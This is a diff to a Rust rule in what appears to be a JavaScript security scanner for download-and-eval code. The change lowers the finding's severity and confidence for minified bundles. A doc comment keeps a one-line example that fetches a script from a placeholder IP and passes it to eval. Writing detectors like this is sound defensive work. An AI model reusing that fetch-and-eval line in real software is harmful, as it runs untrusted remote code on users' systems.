@@ -18,7 +18,9 @@
 //! https.get('https://203.0.113.5/p.js', r => { let b=''; r.on('data', d => b += d); r.on('end', () => eval(b)); });
 //! ```
 //!
-//! **False positives.** Installers of native binaries (esbuild, Playwright)
+//! **False positives.** In minified bundles (long lines, reused one-letter
+//! names) the data flow is over-approximated, so there the network → eval
+//! form is Medium with low confidence. Installers of native binaries (esbuild, Playwright)
 //! download, `chmod` and run a `--version` check; that chain is reported
 //! as Medium with low confidence, never as the strong form.
 
@@ -39,13 +41,19 @@ pub(super) fn check(ctx: &Ctx<'_, '_>) -> Vec<Finding> {
         let path = c.path.as_deref().unwrap_or("");
         let runs_code = api::is_eval(c) || api::is_shell_exec(path);
         if runs_code && f.arg_labels(c) & label::NET != 0 {
+            // Labels spread through reused names in minified bundles.
+            let (strong, conf) = if f.looks_minified() {
+                (Severity::Medium, Confidence::Low)
+            } else {
+                (strong, Confidence::High)
+            };
             out.push(
                 ctx.finding(
                     c.node,
                     "JS202",
                     "download-execute",
                     strong,
-                    Confidence::High,
+                    conf,
                     "data received from the network is executed",
                 )
                 .evidence(format!(
